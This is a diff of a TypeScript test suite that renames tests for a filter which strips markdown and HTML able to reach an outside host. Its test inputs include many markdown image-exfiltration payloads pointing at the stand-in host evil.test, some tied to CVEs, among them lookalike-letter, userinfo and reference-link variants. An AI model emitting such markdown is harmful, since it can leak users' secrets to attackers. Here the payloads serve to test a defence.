@@ -17,7 +17,7 @@ function reachedIn(text: string): readonly string[] {
   );
 }
 
-describe('markdown that reaches out', () => {
+describe('markdown that reaches a host', () => {
   test.each([
     ['an image (CVE-2025-32711, CVE-2025-53773)', '![a](https://evil.test/x?d=SECRET)'],
     ['with a title', '![a](https://evil.test/x "t")'],
@@ -37,7 +37,7 @@ describe('markdown that reaches out', () => {
     ['with another alphabet', '![a](https://ｅvil.test/x)'],
     ['with a name before the host', '![a](https://ok.example.com@evil.test/x)'],
     ['with a host that goes on', '![a](https://ok.example.com.evil.test/x)'],
-    ['with letters that are no host', '![a](https://ok.example.com"x.evil.test/)'],
+    ['with letters that cannot be in a host', '![a](https://ok.example.com"x.evil.test/)'],
     ['by reference', '![a][r]\n\n[r]: https://evil.test/x'],
     ['by reference, on the next line', '![a][r]\n\n[r]:\n  https://evil.test/x\n  "t"'],
     ['by reference, in a quote', '![a][r]\n\n> [r]:\n> //evil.test/x'],
@@ -109,7 +109,7 @@ describe('markdown that reaches out', () => {
     expect(defuseOutbound(text, { allows, media: 'markdown' }).findings.length).toBeGreaterThan(0);
   });
 
-  test('most of these do reach out where nobody stops them', () => {
+  test('most of these reach a host without the filter', () => {
     const texts = [
       '![a](https://evil.test/x?d=SECRET)',
       '![a][r]\n\n> [r]:\n> //evil.test/x',
@@ -122,7 +122,7 @@ describe('markdown that reaches out', () => {
   });
 });
 
-describe('what is left of it', () => {
+describe('the remaining text', () => {
   test.each([
     ['![a chart](https://evil.test/x?d=1)', '(image removed: a chart, https[:]//evil[.]test/x?d=1)'],
     ['![](https://evil.test/x)', '(image removed: https[:]//evil[.]test/x)'],
@@ -141,19 +141,19 @@ describe('what is left of it', () => {
     expect(markdown(text)).toBe(expected);
   });
 
-  test('findings say what, and where', () => {
+  test('findings have a kind and a place', () => {
     expect(defuseOutbound('ab ![c](https://evil.test/x) d', { allows, media: 'markdown' }).findings).toEqual([
       { kind: 'outbound', start: 3, end: 28, what: 'image evil[.]test' },
     ]);
   });
 
-  test('findings are bounded, the rest is counted', () => {
+  test('findings are bounded, with a count of the rest', () => {
     const { findings, omitted } = defuseOutbound('<x> '.repeat(1500), { allows, media: 'markdown' });
     expect([findings.length, omitted]).toEqual([1000, 500]);
   });
 });
 
-describe('what stays, the same string', () => {
+describe('unchanged texts, as the same string', () => {
   test.each([
     'Plain words, 3 < 4, a && b, x[0](y), `code` and *emphasis*.',
     '[a](https://ok.example.com/x?a=1&b=2#c) ![b](https://ok.example.com/i.png "t") <https://ok.example.com/>',
@@ -178,12 +178,12 @@ describe('what stays, the same string', () => {
     expect(defuseOutbound(text, { allows, media: 'markdown' })).toEqual({ text, findings: [] });
   });
 
-  test('an allowed autolink that would be a tag with attributes', () => {
+  test('an allowed autolink that would be a tag with attributes loses its brackets', () => {
     expect(reachedIn(markdown('<div>\n<https://ok.example.com/onclick=x>\n</div>'))).toEqual([]);
     expect(markdown('<https://ok.example.com/?a=1>')).toBe('https://ok.example.com/?a=1 ');
   });
 
-  test('an allowed URL in an unusual spelling is written so that all read it alike', () => {
+  test('an allowed URL in an unusual spelling is rewritten so that all renderers agree', () => {
     expect(markdown('[a](<https://ok.example.com/a b>)')).toBe('[a](https://ok.example.com/a%20b)');
     expect(markdown('[a](https://ok.example.com/x(1))')).toBe('[a](https://ok.example.com/x%281%29)');
     expect(markdown('[r]: <https://ok.example.com/a b>')).toBe('[r]: https://ok.example.com/a%20b');
@@ -209,7 +209,7 @@ describe('drawings', () => {
     expect(markdown(`\`\`\`&#109;ermaid\n${body}\n\`\`\``)).toBe(`\`\`\`text\n${body}\n\`\`\``);
   });
 
-  test('formulas too', () => {
+  test('formulas are shown as code too', () => {
     expect(markdown('```math\n\\href{https://evil.test}{x}\n```')).toBe('```text\n\\href{https://evil.test}{x}\n```');
     expect(markdown('$`\\href{//evil.test}{x}`$')).toContain('\\ href');
   });
@@ -240,7 +240,7 @@ describe('pages', () => {
 describe('laws', () => {
   const message = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));
 
-  test('whatever is put together, no renderer makes anything of it that reaches a host', () => {
+  test('no renderer reaches a host, from any combination of pieces', () => {
     fc.assert(
       fc.property(message, (text) => {
         expect(reachedIn(markdown(text))).toEqual([]);
@@ -249,7 +249,7 @@ describe('laws', () => {
     );
   });
 
-  test('nor a browser of a page', () => {
+  test('nor does a browser with a page', () => {
     fc.assert(
       fc.property(message, (text) => {
         expect(reachedBy(page(text)).filter((host) => host !== friend)).toEqual([]);
@@ -258,7 +258,7 @@ describe('laws', () => {
     );
   });
 
-  test('twice is once', () => {
+  test('is idempotent', () => {
     fc.assert(
       fc.property(message, fc.constantFrom('markdown' as const, 'html' as const), (text, media) => {
         const once = defuseOutbound(text, { allows, media }).text;
@@ -269,7 +269,7 @@ describe('laws', () => {
     );
   });
 
-  test('text with none of its characters stays', () => {
+  test('text without any of its characters stays unchanged', () => {
     fc.assert(
       fc.property(
         fc
